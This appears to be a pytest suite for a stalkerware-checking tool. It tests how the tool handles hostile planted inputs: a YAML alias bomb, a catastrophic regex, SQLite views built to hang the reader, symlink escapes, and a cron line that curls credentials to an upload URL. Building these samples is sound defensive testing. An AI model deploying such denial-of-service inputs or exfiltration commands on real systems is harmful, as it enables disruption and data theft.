"""Hostile inputs planted by someone who expects the computer to be checked (issue 13).

Each test builds the hostile input and asserts what techcheck does with it, within a time limit.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from techcheck.artifacts import Artifact, Location, make
from techcheck.cli import cli
from techcheck.collectors.base import Collector, Context
from techcheck.collectors.macos.tcc import MacTcc
from techcheck.engine import Matcher
from techcheck.feeds import FeedError, import_feed
from techcheck.masking import mask_text
from techcheck.report.html import render_html
from techcheck.report.model import build_report
from techcheck.report.text import render_text
from techcheck.ruleset import parse_rule_file
from techcheck.scan import run_check
from techcheck.target import FakeTarget, detect_os, open_image
from techcheck.target.base import Target
from techcheck.target.budget import ReadBudget
from techcheck.target.sqlite import QueryLimits, QueryRefused
from techcheck.yamlsource import load_yaml
from tests.browser_fixtures import chrome_history
from tests.browser_fixtures import linux_image as browser_image
from tests.conftest import REPO, write
from tests.macos_tree import collect, mac_skeleton, make_tcc_db
from tests.reportdata import hostile_scan, save_scan

RULE = """\
id: test.hostile.x11vnc
severity: review
category: remote_access
platforms: [any]
text: {en: {title: A, what: a, why: a, actions: [a], normal: a}}
match: [{kind: app, package: x11vnc}]
"""


# --- item 12: a collector that yields, then raises ----------------------------------------------

class YieldsThenFails(Collector):
    name = "test.yields_then_fails"
    title = "A check that breaks half-way"
    platforms = ("linux",)

    def collect(self, target: Target, ctx: Context) -> Iterable[Artifact]:
        yield make("app", Location(path="/var/lib/dpkg/status"), package="x11vnc", name="x11vnc")
        raise ValueError("damaged entry")


def test_what_a_collector_yielded_before_it_failed_is_kept_and_matched() -> None:
    target = FakeTarget(mode="fake", os="linux", root=None)
    result, artifacts = run_check(YieldsThenFails, target)
    assert result.status == "failed" and "damaged entry" in result.reason
    assert [a.get("package") for a in artifacts] == ["x11vnc"] and result.artifact_count == 1
    rules, problems = parse_rule_file("r.yaml", RULE)
    assert problems == []
    assert [f.rule.id for f in Matcher.build(rules).match(artifacts)] == ["test.hostile.x11vnc"]


# --- item 10: line and paragraph separators ------------------------------------------------------

def test_line_and_paragraph_separators_are_escaped_in_text_and_html() -> None:
    name = "cron\u2028job\u2029x"
    extra = [make("app", Location(path="/var/lib/dpkg/status"), package="x11vnc", name=name)]
    model = build_report(hostile_scan(extra_artifacts=extra), "en")
    for shown in (render_html(model), render_text(model)):
        assert "\u2028" not in shown and "\u2029" not in shown
        assert "cron\\u2028job\\u2029x" in shown


# --- item 11: OS detection stays inside the image ------------------------------------------------

def test_os_detection_follows_links_inside_the_image(tmp_path: Path) -> None:
    host = tmp_path / "host-folder"
    (host / "System32").mkdir(parents=True)  # looks like Windows, but is on the scanning computer
    image = tmp_path / "img"
    image.mkdir()
    (image / "Windows").symlink_to(host)  # absolute link: inside the image it points to /<tmp>/host-folder
    assert detect_os(str(image)) == "unknown"
    # The same link resolved inside the image, where the folder does exist, is Windows.
    inside = image / str(host).lstrip("/") / "System32"
    inside.mkdir(parents=True)
    assert detect_os(str(image)) == "windows"
    assert open_image(str(image)).os == "windows"


# --- item 5: YAML alias bombs --------------------------------------------------------------------

def billion_laughs(levels: int = 9) -> str:
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_rule_file_is_refused_with_file_and_line_quickly(tmp_path: Path) -> None:
    bomb = billion_laughs()
    assert len(bomb) < 600
    rule_file = tmp_path / "bomb.yaml"
    rule_file.write_text(bomb)
    start = time.monotonic()
    res = CliRunner().invoke(cli, ["rules", "validate", str(rule_file)])
    assert time.monotonic() - start < 1.0
    assert res.exit_code == 2
    assert f"{rule_file}:6: not valid YAML: aliases expand to more than" in res.output


def test_a_yaml_alias_bomb_feed_file_is_refused_with_file_and_line_quickly(tmp_path: Path) -> None:
    feed = tmp_path / "ioc.yaml"
    feed.write_text(billion_laughs())
    start = time.monotonic()
    with pytest.raises(FeedError) as err:
        import_feed("assoechap-yaml", [feed], tmp_path / "out")
    assert time.monotonic() - start < 1.0
    assert str(feed) in str(err.value) and "aliases expand" in str(err.value) and "6" in str(err.value)


def test_an_alias_bomb_with_aliases_right_after_a_quoted_key_is_refused_too(tmp_path: Path) -> None:
    """`{"k":*a}`: in flow style an alias may follow a quoted key's colon with no space. Every alias
    is seen when values are built (a node met twice), not found by looking at the text."""
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 7):
        lines.append(f"a{i}: &a{i} [" + ",".join([f'{{"k":*a{i - 1}}}'] * 10) + "]")
    rule_file = tmp_path / "bomb.yaml"
    rule_file.write_text("\n".join(lines) + "\n")
    start = time.monotonic()
    res = CliRunner().invoke(cli, ["rules", "validate", str(rule_file)])
    assert time.monotonic() - start < 1.0
    assert res.exit_code == 2
    assert f"{rule_file}:5: not valid YAML: aliases expand to more than" in res.output


def test_merge_keys_and_tags_load_as_pyyaml_loads_them() -> None:
    text = ("base: &b {x: 1, y: [a, b]}\nm:\n  <<: *b\n  z: 2\nd: 2024-01-31\nn: 0x10\ns: !!str 12\n"
            "t: ~\nu: [yes, 'no', 1.5, .inf]\n")
    assert load_yaml(text).data == yaml.safe_load(text)


def test_ordinary_anchors_still_load() -> None:
    text = RULE.replace("match: [{kind: app, package: x11vnc}]",
                        "match:\n  - &c {kind: app, package: x11vnc}\n  - *c\n")
    rules, problems = parse_rule_file("r.yaml", text)
    assert problems == [] and len(rules[0].conditions) == 2



# --- item 13: rule values of the wrong type ------------------------------------------------------

@pytest.mark.parametrize(("condition", "field", "says"), [
    ('{kind: listener, port: "5900"}', "match[0].port", "'5900' is text, but this field is a number"),
    ("{kind: process, user: 0}", "match[0].user", "0 is a number, but this field is text"),
    ('{kind: listener, exposed: "yes"}', "match[0].exposed", "'yes' is text, but this field is true or false"),
    ("{kind: listener, port: {not: [5900, \"5901\"]}}", "match[0].port.not", "'5901' is text"),
    ("{kind: listener, port: {glob: \"59*\"}}", "match[0].port.glob", "glob works on text fields"),
    ("{kind: app, hidden: 1}", "match[0].hidden", "1 is a number, but this field is true or false"),
])
def test_rule_values_are_checked_against_the_field_type(condition: str, field: str, says: str) -> None:
    text = RULE.replace("match: [{kind: app, package: x11vnc}]", f"match:\n  - {condition}")
    rules, problems = parse_rule_file("typed.yaml", text)
    assert rules == []
    assert [(p.file, p.line, p.field) for p in problems] == [("typed.yaml", 7, field)]
    assert says in problems[0].message


def test_rule_values_of_the_right_type_load() -> None:
    text = RULE.replace("match: [{kind: app, package: x11vnc}]",
                        "match:\n  - {kind: listener, port: [5900, 5901], exposed: true}\n"
                        "  - {kind: browser_extension, permissions: {contains: debugger}}")
    rules, problems = parse_rule_file("typed.yaml", text)
    assert problems == [] and len(rules[0].conditions) == 2


# --- item 6: catastrophic regular expressions ----------------------------------------------------

def test_a_catastrophic_regex_runs_in_linear_time_on_a_planted_command_line() -> None:
    text = RULE.replace("match: [{kind: app, package: x11vnc}]",
                        "match: [{kind: process, cmdline: {regex: '^(a+)+$'}}]")
    rules, problems = parse_rule_file("slow.yaml", text)
    assert problems == []
    planted = [make("process", Location(pid=7), pid=7, name="a", cmdline="a" * n + "!") for n in (33, 100_000)]
    start = time.monotonic()
    assert Matcher.build(rules).match(planted) == []
    assert time.monotonic() - start < 1.0  # Python's re takes minutes on the 33-character line alone


@pytest.mark.parametrize("pattern", ["foo(?!bar)", "(?<=x)y", r"(a)\1"])
def test_a_regex_re2_cannot_take_is_a_load_error_with_file_line_and_field(pattern: str) -> None:
    text = RULE.replace("match: [{kind: app, package: x11vnc}]",
                        f"match:\n  - {{kind: process, cmdline: {{regex: '{pattern}'}}}}")
    rules, problems = parse_rule_file("re.yaml", text)
    assert rules == []
    assert [(p.file, p.line, p.field) for p in problems] == [("re.yaml", 7, "match[0].cmdline.regex")]
    assert "cannot be used" in problems[0].message


def test_a_condition_level_not_makes_an_exception() -> None:
    text = RULE.replace("match: [{kind: app, package: x11vnc}]",
                        "match:\n  - kind: autostart\n    exe: {glob: '*/tmp/*'}\n"
                        "    not: {exe: {glob: '*/tmp/ok/*'}, enabled: false}")
    rules, problems = parse_rule_file("not.yaml", text)
    assert problems == []
    rule = rules[0]

    def art(exe: str, enabled: bool) -> Artifact:
        return make("autostart", Location(), mechanism="cron", exe=exe, enabled=enabled)

    assert rule.matches(art("/tmp/x", False)) and rule.matches(art("/tmp/ok/x", True))
    assert not rule.matches(art("/tmp/ok/x", False))


# --- items 1, 2 and 4: SQLite databases --------------------------------------------------------

SYSTEM_DB = "Library/Application Support/com.apple.TCC/TCC.db"


def snapshot(root: Path) -> dict[str, tuple[int, float]]:
    """Every file below root with its size and change time: a scan must change none of them."""
    return {str(p.relative_to(root)): (p.lstat().st_size, p.lstat().st_mtime)
            for p in root.rglob("*")}


def tcc_in_wal(root: Path) -> tuple[Path, sqlite3.Connection]:
    """A TCC.db whose only grant sits in its -wal file (the writer still has it open)."""
    db = make_tcc_db(root / SYSTEM_DB, [("kTCCServiceCamera", "com.example.cam", 0, 2, 2, 1700000000)])
    writer = sqlite3.connect(db)
    writer.execute("PRAGMA journal_mode=WAL")
    writer.execute("PRAGMA wal_autocheckpoint=0")
    writer.execute("INSERT INTO access (service, client, client_type, auth_value, auth_reason, auth_version, "
                   "last_modified) VALUES ('kTCCServiceListenEvent', 'com.example.keys', 0, 2, 2, 1, 1700000001)")
    writer.commit()
    # An uncommitted change after the commit: SQLite's own readers would not see it, nor may we.
    writer.execute("BEGIN")
    writer.execute("DELETE FROM access")
    return db, writer


def test_a_tcc_grant_only_in_the_write_ahead_log_is_read_and_nothing_is_written(tmp_path: Path) -> None:
    root = mac_skeleton(tmp_path / "img")
    db, writer = tcc_in_wal(root)
    assert (root / (SYSTEM_DB + "-wal")).stat().st_size > 0
    copy = tmp_path / "copy"
    shutil.copytree(root, copy, ignore=shutil.ignore_patterns("*-shm"))  # as a disk copy would hold it
    writer.rollback()
    writer.close()
    before = snapshot(copy)
    arts, ctx = collect(MacTcc, copy)
    grants = sorted((a.get("service"), a.get("app")) for a in arts if a.get("source") == "tcc")
    assert grants == [("camera", "com.example.cam"), ("input_monitoring", "com.example.keys")]
    assert ctx.notes == []
    assert snapshot(copy) == before  # no -shm, no journal, nothing changed


def test_a_wal_that_cannot_be_applied_is_noted(tmp_path: Path) -> None:
    root = mac_skeleton(tmp_path / "img")
    make_tcc_db(root / SYSTEM_DB, [("kTCCServiceCamera", "com.example.cam", 0, 2, 2, 1700000000)])
    (root / (SYSTEM_DB + "-wal")).write_bytes(b"\x37\x7f\x06\x82" + b"\xff" * 60)
    arts, ctx = collect(MacTcc, root)
    assert [a.get("app") for a in arts if a.get("source") == "tcc"] == ["com.example.cam"]
    assert any("write-ahead log could not be applied" in n.message for n in ctx.notes)


ENDLESS_VIEWS = {
    "recursive view": "CREATE VIEW access AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
                      "SELECT 'kTCCServiceCamera' AS service, 'c' || x AS client, 0 AS client_type, "
                      "2 AS auth_value, 2 AS auth_reason, x AS last_modified FROM n",
    "huge rows": "CREATE VIEW access AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
                 "SELECT 'kTCCServiceCamera' AS service, hex(zeroblob(1000000)) AS client, 0 AS client_type, "
                 "2 AS auth_value, 2 AS auth_reason, 0 AS last_modified FROM n",
    "virtual table": "CREATE VIRTUAL TABLE access USING fts5(service, client, client_type, auth_value, "
                     "auth_reason, last_modified)",
}


@pytest.mark.parametrize("schema", list(ENDLESS_VIEWS))
def test_a_database_built_to_hang_the_reader_is_refused_with_a_note(tmp_path: Path, schema: str) -> None:
    root = mac_skeleton(tmp_path / "img")
    db = root / SYSTEM_DB
    db.parent.mkdir(parents=True)
    conn = sqlite3.connect(db)
    conn.execute(ENDLESS_VIEWS[schema])
    conn.commit()
    conn.close()
    assert db.stat().st_size < 64 * 1024
    start = time.monotonic()
    arts, ctx = collect(MacTcc, root)
    assert time.monotonic() - start < 5.0
    assert [a for a in arts if a.get("source") == "tcc"] == []
    expected = "a virtual table" if schema == "virtual table" else "a view"
    assert any(f"'access' is {expected}" in n.message and "not a table" in n.message for n in ctx.notes), ctx.notes


def test_query_limits_stop_endless_and_huge_answers(tmp_path: Path) -> None:
    db = tmp_path / "big.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE t(a)")
    conn.executemany("INSERT INTO t VALUES (?)", [("x" * 1000,)] * 2000)
    conn.commit()
    conn.close()
    target = FakeTarget(mode="fake", os="linux", root=None, files={"/big.db": db.read_bytes()})
    for limits, says in ((QueryLimits(rows=100), "more than 100 rows"),
                         (QueryLimits(bytes=100_000), "more than 0 MiB of data"),
                         (QueryLimits(steps=100_000), "more than 100,000 steps")):
        reader = target.sqlite("/big.db", limits)
        start = time.monotonic()
        with pytest.raises(QueryRefused, match=says):
            reader.execute("SELECT a.a FROM t a, t b ORDER BY a.a || b.a").fetchall() if limits.steps < 10**6 \
                else reader.execute("SELECT a FROM t").fetchall()
        assert time.monotonic() - start < 2.0
        reader.close()
    assert target.budget.held == 0  # closing gave back the budget


def test_a_database_too_big_for_the_budget_is_read_in_place_without_writing(tmp_path: Path) -> None:
    root = mac_skeleton(tmp_path / "img")
    db, writer = tcc_in_wal(root)
    copy = tmp_path / "copy"
    shutil.copytree(root, copy, ignore=shutil.ignore_patterns("*-shm"))
    writer.rollback()
    writer.close()
    before = snapshot(copy)
    target = open_image(str(copy))
    target.budget = ReadBudget(limit=16 * 1024)  # smaller than twice the database
    ctx = Context()
    arts = list(MacTcc().collect(target, ctx))
    # Read in place: what was checkpointed into the file is there; the log was not applied, and it says so.
    assert [a.get("app") for a in arts if a.get("source") == "tcc"] == ["com.example.cam"]
    assert any("write-ahead log was not applied" in n.message for n in ctx.notes), ctx.notes
    assert snapshot(copy) == before
    assert target.budget.held == 0


# --- item 7: saving a report ---------------------------------------------------------------------

def small_linux_image(root: Path) -> Path:
    (root / "etc").mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    (root / "etc/ld.so.preload").write_text("/usr/lib/libsneaky.so\n")
    (root / "usr").mkdir()
    return root


def scan_to(root: Path, output: Path | str, *extra: str) -> Any:
    start = time.monotonic()
    res = CliRunner().invoke(cli, ["scan", "--root", str(root), "--format", "json", "--output", str(output),
                                   "--lang", "en", "--yes", *extra])
    assert time.monotonic() - start < 10.0
    return res


def refused(res: Any, reason: str) -> None:
    assert res.exit_code == 2, res.output
    lines = [line for line in res.output.splitlines() if line.strip()]
    assert len(lines) == 1 and "cannot be saved" in lines[0] and reason in lines[0], res.output
    assert "Traceback" not in res.output and "safety" not in res.output.lower()  # refused before the scan


def test_an_output_path_that_cannot_be_used_is_refused_before_the_scan(tmp_path: Path) -> None:
    root = small_linux_image(tmp_path / "img")
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("keep me")
    link = tmp_path / "link.json"
    link.symlink_to(elsewhere)
    refused(scan_to(root, link), "link")
    assert elsewhere.read_text() == "keep me"
    refused(scan_to(root, tmp_path / "missing" / "r.json"), "folder does not exist")
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    refused(scan_to(root, fifo), "not an ordinary file")
    refused(scan_to(root, "/dev/null"), "not an ordinary file")


def test_a_report_is_never_saved_inside_the_scanned_disk_copy(tmp_path: Path) -> None:
    root = small_linux_image(tmp_path / "img")
    refused(scan_to(root, root / "etc" / "r.json"), "inside the disk copy")
    (tmp_path / "via").symlink_to(root / "usr")  # a folder outside that is really inside
    refused(scan_to(root, tmp_path / "via" / "r.json"), "inside the disk copy")
    assert sorted(p.name for p in (root / "etc").iterdir()) == ["ld.so.preload", "passwd"]
    res = scan_to(root, tmp_path / "r.json")
    assert res.exit_code == 0 and json.loads((tmp_path / "r.json").read_text())["findings"]
    assert stat.S_IMODE((tmp_path / "r.json").stat().st_mode) == 0o600


def test_a_failed_write_leaves_no_partial_report(tmp_path: Path) -> None:
    """The disk fills up while saving (a file size limit makes writes fail the same way)."""
    root = small_linux_image(tmp_path / "img")
    out = tmp_path / "out"
    out.mkdir()
    (out / "r.json").write_text("the previous report")

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))

    res = subprocess.run([sys.executable, "-m", "techcheck", "scan", "--root", str(root), "--format", "json",
                          "--output", str(out / "r.json"), "--force", "--lang", "en", "--yes"],
                         capture_output=True, text=True, timeout=60, preexec_fn=small_files, cwd=REPO,
                         env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
    assert res.returncode == 2, res.stderr
    assert "could not be saved" in res.stderr and "No partial file" in res.stderr and "Traceback" not in res.stderr
    assert sorted(p.name for p in out.iterdir()) == ["r.json"]  # no temporary file left behind
    assert (out / "r.json").read_text() == "the previous report"  # the old one is intact, not truncated


# --- item 4: one read budget ---------------------------------------------------------------------

def test_huge_hives_and_histories_stay_within_the_read_budget() -> None:
    """Six user folders with 16 MiB sparse NTUSER.DAT files and four 16 MiB History files, budget
    24 MiB: every hive and history is still read, and the peak memory stays far below what holding
    them all takes (132 MiB measured; scripts/bench_memory.py measures the full 511 MiB case)."""
    res = subprocess.run([sys.executable, "scripts/bench_memory.py", "--size", "16", "--budget", "24", "--json"],
                         capture_output=True, text=True, timeout=120, cwd=REPO)
    assert res.returncode == 0, res.stderr
    measured = json.loads(res.stdout)
    assert measured["failed"] == [] and measured["history_users_read"] == 4
    assert measured["hives_read"] == [f"user{i}" for i in range(1, 7)]
    assert measured["budget_peak_mib"] <= 24 and measured["budget_held_after_mib"] == 0
    assert measured["peak_rss_mib"] < 90, measured


def test_a_hive_bigger_than_the_budget_is_noted(tmp_path: Path) -> None:
    root = tmp_path / "img"
    config = root / "Windows/System32/config"
    config.mkdir(parents=True)
    software = config / "SOFTWARE"
    software.write_bytes(b"regf" + bytes(100))
    os.truncate(software, 64 * 1024 * 1024)
    (root / "Users").mkdir()
    target = open_image(str(root))
    target.budget = ReadBudget(16 * 1024 * 1024)
    reg = target.registry()
    assert any("more than the scan's read budget of 16 MiB" in p.message for p in reg.problems), reg.problems
    assert target.budget.held == 0


def test_the_read_budget_can_be_set_on_the_command_line(tmp_path: Path) -> None:
    root = small_linux_image(tmp_path / "img")
    res = scan_to(root, tmp_path / "r.json", "--read-budget", "64")
    assert res.exit_code == 0, res.output
    res = scan_to(root, tmp_path / "r.json", "--read-budget", "1")
    assert res.exit_code == 2 and "--read-budget" in res.output


# --- item 9: secrets in evidence -----------------------------------------------------------------

SECRETS = ("hunter2", "pa55word", "eyJhbGciOi.SECRET", "topsecret9", "sess10n-t0ken", "s3cr3t-store")


def secret_laden_image(root: Path) -> Path:
    browser_image(root, "ana")
    write(root, "etc/systemd/system/vnc.service",
          "[Service]\nExecStart=/usr/bin/x11vnc -forever -passwd hunter2 -storepasswd s3cr3t-store /tmp/p\n"
          "[Install]\nWantedBy=multi-user.target\n")
    write(root, "etc/cron.d/sync",
          "* * * * * root curl -u ana:pa55word -H 'Authorization: Bearer eyJhbGciOi.SECRET' "
          "https://mspy.com/upload?key=sess10n-t0ken\n")
    write(root, "home/ana/.ssh/authorized_keys",
          'command="/usr/bin/x11vnc -passwd topsecret9",no-pty ssh-ed25519 '
          "AAAAC3NzaC1lZDI1NTE5AAAAIGx0aWNrZXRfZm9yX3Rlc3RzX29ubHlfbm90X2FfcmVhbF9rZXk= ana@laptop\n")
    profile = root / "home/ana/.config/google-chrome/Default"
    profile.mkdir(parents=True)
    (profile / "Preferences").write_text("{}")
    chrome_history(profile / "History", [("https://mspy.com/login?session=sess10n-t0ken#x", "Log in",
                                          "2024-05-01T10:00:00+00:00")])
    return root


def test_secrets_are_masked_in_every_report_format(tmp_path: Path) -> None:
    root = secret_laden_image(tmp_path / "img")
    shown = {fmt: save_scan(tmp_path, root, f"r.{fmt}", fmt=fmt).read_text(encoding="utf-8")
             for fmt in ("json", "html", "text")}
    for fmt, content in shown.items():
        for secret in SECRETS:
            assert secret not in content, (fmt, secret)
    report = json.loads(shown["json"])
    evidence = [e for f in report["findings"] for e in f["evidence"]]
    commands = {e["fields"].get("command", "") for e in evidence}
    assert any("-passwd **** -storepasswd **** /tmp/p" in c for c in commands), commands
    assert "-u ana:**** -H 'Authorization: Bearer ****' https://mspy.com/upload" in shown["json"]
    assert 'command=\\"/usr/bin/x11vnc -passwd ****\\",no-pty' in shown["json"]
    visits = [e for e in evidence if e["kind"] == "web_visit"]
    assert visits and all(e["fields"]["url"] == "https://mspy.com/login" and e["masked"] == ["url"] for e in visits)
    assert "masking" in report["evidence_record"]
    assert "-passwd ****" in shown["text"] and "-passwd ****" in shown["html"]


@pytest.mark.parametrize(("raw", "masked"), [
    ("x11vnc -passwd hunter2 -display :0", "x11vnc -passwd **** -display :0"),
    ("app --password=abc --db_pass 'a b' --user bob", "app --password=**** --db_pass **** --user bob"),
    ("curl --user alice:pw https://h.example/p?q=1", "curl --user alice:**** https://h.example/p"),
    ("Authorization: Basic YWxhZGRpbjpvcGVu", "Authorization: Basic ****"),
    ("env API_TOKEN=abc VNC_PASSWORD=\"x y\" run", "env API_TOKEN=**** VNC_PASSWORD=**** run"),
    ("https://u:p@[::1]:8080/a/b?c#d", "https://[::1]:8080/a/b"),
])
def test_masking_keeps_the_option_name_and_replaces_the_value(raw: str, masked: str) -> None:
    assert mask_text(raw) == masked


@pytest.mark.parametrize("ordinary", [
    "/usr/bin/x11vnc -forever -rfbauth /home/ana/.vnc/passwd -display :0", "--bypass-cache --password-file /p",
    "ssh -p 22 host", "https://mspy.com/login", "PWD=/home/ana", "/usr/lib/passwd-helper --token-file t",
])
def test_masking_leaves_ordinary_text_alone(ordinary: str) -> None:
    assert mask_text(ordinary) == ordinary


# --- item 3: rules import --replace --------------------------------------------------------------

IOC = """\
- name: Spyapp
  names: [Spyapp]
  packages: [com.spyapp.agent]
  websites: [spyapp.example]
"""


def test_rules_import_replace_never_follows_links_or_deletes_others_folders(tmp_path: Path) -> None:
    feed = tmp_path / "ioc.yaml"
    feed.write_text(IOC)
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "photo.jpg").write_bytes(b"keep")

    def run(output: Path) -> Any:
        return CliRunner().invoke(cli, ["rules", "import", "--format", "assoechap-yaml", str(feed),
                                        "--output", str(output), "--replace"])

    res = run(precious)  # a folder techcheck did not write
    assert res.exit_code == 2 and "not written by `techcheck rules import`" in res.output
    link = tmp_path / "link"
    link.symlink_to(precious)  # a link to someone's folder
    res = run(link)
    assert res.exit_code == 2 and "link" in res.output
    assert (precious / "photo.jpg").read_bytes() == b"keep" and sorted(p.name for p in precious.iterdir()) == [
        "photo.jpg"]
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "elsewhere")
    res = run(dangling)
    assert res.exit_code == 2 and "link" in res.output and not (tmp_path / "elsewhere").exists()
    # A folder it wrote itself is replaced.
    mine = tmp_path / "mine"
    assert run(mine).exit_code == 0 and (mine / ".techcheck-import").is_file()
    assert run(mine).exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no staging left
